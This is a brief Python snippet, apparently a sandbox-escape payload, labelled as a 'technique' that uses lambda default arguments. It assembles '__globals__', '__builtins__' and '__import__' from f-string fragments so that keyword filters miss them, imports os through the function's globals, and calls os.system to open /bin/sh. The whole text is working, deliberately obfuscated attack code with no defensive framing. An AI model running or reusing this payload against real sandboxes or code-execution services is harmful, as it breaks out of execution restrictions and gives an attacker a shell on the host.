# technique: lambda default arguments evaluate attribute chains at definition time; names from f-strings
u = "_"
k1 = f"{u*2}glob{'als'}{u*2}"
k2 = f"{u*2}{'built'}ins{u*2}"
k3 = f"{u*2}{'imp'}{'ort'}{u*2}"
grab = lambda f=(lambda: 0), a=k1, b=k2: getattr(f, a)[b]
bi = grab()
bi = bi if type(bi) is dict else vars(bi)
sh = (lambda m=bi[k3](f"{'o'}{'s'}"): getattr(m, f"sys{'tem'}"))()
sh(f"{'/bin'}/{'sh'}")
